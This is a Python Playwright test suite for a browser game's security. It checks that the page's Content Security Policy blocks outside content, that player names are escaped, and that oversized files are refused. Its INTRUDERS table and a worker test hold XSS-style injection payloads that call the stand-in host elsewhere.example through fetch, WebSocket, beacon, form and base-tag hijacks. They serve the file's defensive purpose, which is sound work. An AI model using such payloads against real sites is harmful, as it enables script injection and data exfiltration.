"""The policy of the page, and that nothing from outside can run, reach the network, or become markup. See ``docs/security.md``."""

from __future__ import annotations

import base64
import hashlib
import json
import re
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from e2e import positions
from e2e.table import ready
from tools.paths import DIST
from vacant_throne.core import save

NAME = "<b>Q</b>\"'&"
PLAIN = "Quentin"

LARGEST_FILE = 16_000_000


class Inside(HTMLParser):
    """The policy of a page, and what stands between its tags of scripts and styles."""

    def __init__(self, path: Path) -> None:
        super().__init__()
        self.policy = ""
        self.inline: list[tuple[str, str]] = []
        self.handlers: list[str] = []
        self._within = ""
        self.feed(path.read_text("utf-8"))

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        values = dict(attrs)
        if values.get("http-equiv") == "Content-Security-Policy":
            self.policy = values["content"]
        self.handlers += [name for name, value in attrs if name.startswith("on") or name == "style" or "javascript:" in (value or "")]
        runs = tag == "style" or (tag == "script" and values.get("type") in (None, "module"))
        self._within = tag if runs and "src" not in values else ""

    def handle_endtag(self, tag: str) -> None:
        self._within = ""

    def handle_data(self, data: str) -> None:
        if self._within:
            self.inline.append((self._within, data))

    def directives(self) -> dict[str, list[str]]:
        return {words[0]: words[1:] for part in self.policy.split(";") if (words := part.split())}


def digest(text: str) -> str:
    return f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'"


def test_the_policy_allows_what_the_page_is_made_of_and_nothing_else() -> None:
    page = Inside(DIST / "index.html")
    assert page.handlers == []
    scripts = [digest(text) for kind, text in page.inline if kind == "script"]
    styles = [digest(text) for kind, text in page.inline if kind == "style"]
    assert page.directives() == {
        "default-src": ["'none'"],
        "script-src": ["'self'", *scripts, "'unsafe-eval'"],
        "worker-src": ["'self'", "blob:"],
        "connect-src": ["'self'"],
        "style-src": styles,
        "font-src": ["'self'"],
        "img-src": ["'self'"],
        "manifest-src": ["'self'"],
        "base-uri": ["'none'"],
        "form-action": ["'none'"],
    }


def test_no_page_is_without_a_policy_and_none_lets_anything_from_elsewhere_in() -> None:
    for path in DIST.rglob("*.html"):
        page = Inside(path)
        directives = page.directives()
        assert directives["default-src"] == ["'none'"], path
        assert directives["base-uri"] == directives["form-action"] == ["'none'"], path
        assert page.handlers == [], path
        for kind, sources in directives.items():
            allowed = {"'none'", "'self'"}
            if path.name == "index.html":
                allowed |= {"'unsafe-eval'"} if kind == "script-src" else {"blob:"} if kind == "worker-src" else set()
            assert all(source in allowed or source.startswith("'sha256-") for source in sources), (path, kind)
        for kind, text in page.inline:
            assert digest(text) in directives[f"{kind}-src"], f"{path} has a {kind} that its policy does not let run"


def test_the_page_takes_no_package_from_anywhere() -> None:
    data = re.search(r'id="boot-data">(.*?)</script>', (DIST / "index.html").read_text("utf-8"))
    assert data is not None
    (lock,) = DIST.glob("pyodide-*/pyodide-lock.json")
    assert json.loads(data[1])["lock"] == json.loads(lock.read_text("utf-8"))
    assert json.loads(data[1])["lock"]["packages"] == {}


@pytest.mark.parametrize("instead", ["", "'wasm-unsafe-eval'"])
def test_the_one_thing_that_is_loosened_is_needed(page: Page, watch: Any, site_url: str, instead: str) -> None:
    for problem in ("policy violation", "Content Security Policy"):
        watch.expect(problem)
    text = (DIST / "index.html").read_text("utf-8")
    assert text.count("'unsafe-eval'\"") + text.count("'unsafe-eval';") == 1
    page.route(site_url, lambda route: route.fulfill(body=text.replace("'unsafe-eval';", f"{instead};"), content_type="text/html"))
    with page.expect_console_message(lambda message: "policy violation: script-src" in message.text):
        page.goto(site_url)
    assert page.locator("html").get_attribute("data-state") != "ready"


INTRUDERS = {
    "an inline script": "put('script').textContent = 'window.ran = true'",
    "a handler": 'write(\'<img src="x" onerror="window.ran = true">\')',
    "a script from elsewhere": "put('script').src = 'https://elsewhere.example/a.js'",
    "an inline style": "write('<style>body { display: none }</style>')",
    "a frame": "write('<iframe src=\"https://elsewhere.example/\"></iframe>')",
    "an object": "write('<object data=\"https://elsewhere.example/\"></object>')",
    "an image from elsewhere": "new Image().src = 'https://elsewhere.example/a.png'",
    "a request": "fetch('https://elsewhere.example/').catch(() => 0)",
    "a socket": "try { new WebSocket('wss://elsewhere.example/') } catch {}",
    "a beacon": "navigator.sendBeacon('https://elsewhere.example/', 'x')",
    "a worker of an address": "try { new Worker('data:text/javascript,0') } catch {}",
    "a form": "Object.assign(put('form'), { action: 'https://elsewhere.example/' }).submit()",
    "another base": "put('base').href = 'https://elsewhere.example/'",
}
TOOLS = """const put = (name) => document.body.appendChild(document.createElement(name));
const write = (text) => document.body.insertAdjacentHTML("beforeend", text);"""


def test_what_might_get_into_the_page_could_neither_run_nor_reach_the_network(page: Page, watch: Any, site_url: str) -> None:
    for problem in ("policy violation", "Content Security Policy", "elsewhere.example", "404"):
        watch.expect(problem)
    arrived: list[str] = []
    page.route("https://elsewhere.example/**", lambda route: arrived.append(route.request.url))
    page.goto(site_url)
    ready(page)
    for what, does in INTRUDERS.items():
        with page.expect_console_message(lambda message: "policy violation" in message.text):
            page.evaluate(f"() => {{ {TOOLS} {does} }}")
        assert page.evaluate("window.ran") is None, what
    assert page.url == site_url
    assert arrived == []


def test_a_worker_of_text_is_held_to_the_policy_of_the_page(page: Page, watch: Any, site_url: str) -> None:
    """Only the page's own scripts make one, as PyScript does; it reaches no further than they do."""
    watch.expect("Content Security Policy")
    page.goto(site_url)
    refused = page.evaluate(
        """() => new Promise((done) => {
          const text = `addEventListener("securitypolicyviolation", (event) => postMessage(event.violatedDirective));
            fetch("https://elsewhere.example/").then(() => postMessage("arrived"), () => 0);`;
          const worker = new Worker(URL.createObjectURL(new Blob([text])));
          worker.onmessage = ({ data }) => done(data);
        })"""
    )
    assert refused == "connect-src"


def kept(name: str) -> str:
    match = positions.at_step("swap", players=2)
    moment = "2026-11-27T10:00:00.000Z"
    about = {"app": "vacant-throne", "schema": 2, "id": "k", "revision": 1, "title": name, "names": [name, name], "curtain": False}
    stands = {"settled": 0, "created": moment, "updated": moment, "finished": False, "by_link": False, "save": save.dump(match)}
    return json.dumps({**about, **stands})


def elements(page: Page) -> Counter[str]:
    return Counter(page.evaluate("[...document.querySelectorAll('#app *')].map((it) => `${it.tagName} ${it.getAttributeNames().sort()}`)"))


def test_a_name_is_text_on_every_screen(page: Page, site_url: str) -> None:
    seen: dict[str, list[Counter[str]]] = {}
    for name in (PLAIN, NAME):
        page.goto(site_url)
        ready(page)
        page.evaluate("(text) => localStorage.setItem('vacant-throne:game:k', text)", kept(name))
        page.reload()
        ready(page)
        screens = [elements(page)]
        page.click("#top-games")
        expect(page.locator("#game-k h2")).to_have_text(name)
        screens.append(elements(page))
        page.click("#rename-k")
        expect(page.locator("#rename-text")).to_have_attribute("placeholder", f"{name} and {name}")
        screens.append(elements(page))
        page.click("#rename-cancel")
        page.click("#go-k")
        expect(page.locator("#main")).to_contain_text(name)
        screens.append(elements(page))
        page.click("#top-home")
        seen[name] = screens
    assert seen[NAME] == seen[PLAIN]


CHOOSE_FILE = """size => {
  const field = document.getElementById("file"), chosen = new DataTransfer();
  chosen.items.add(new File([new Uint8Array(size).fill(32)], "games.json", {type: "application/json"}));
  field.files = chosen.files;
  field.dispatchEvent(new Event("change", {bubbles: true}));
}"""
"""As if somebody had chosen a file of so many bytes, made in the page: to hand one over takes seconds."""


def test_a_file_too_large_is_refused_before_it_is_read(page: Page, site_url: str) -> None:
    page.add_init_script("""window.reads = 0;
      const text = Blob.prototype.text;
      Blob.prototype.text = function () { reads++; return text.call(this); };""")
    page.goto(site_url)
    ready(page)
    page.click("#top-games")
    for size, reads in ((LARGEST_FILE + 1, 0), (LARGEST_FILE, 1)):
        page.evaluate(CHOOSE_FILE, size)
        expect(page.locator("#notices .toast")).to_be_visible()
        assert page.evaluate("reads") == reads
        page.click("#toast-close")


def test_the_page_and_this_test_agree_on_what_is_too_large() -> None:
    source = (Path(__file__).parents[1] / "web/app/browser.py").read_text("utf-8")
    assert re.search(r"^LARGEST_FILE = ([\d_]+)$", source, re.MULTILINE)[1] == f"{LARGEST_FILE:_}"
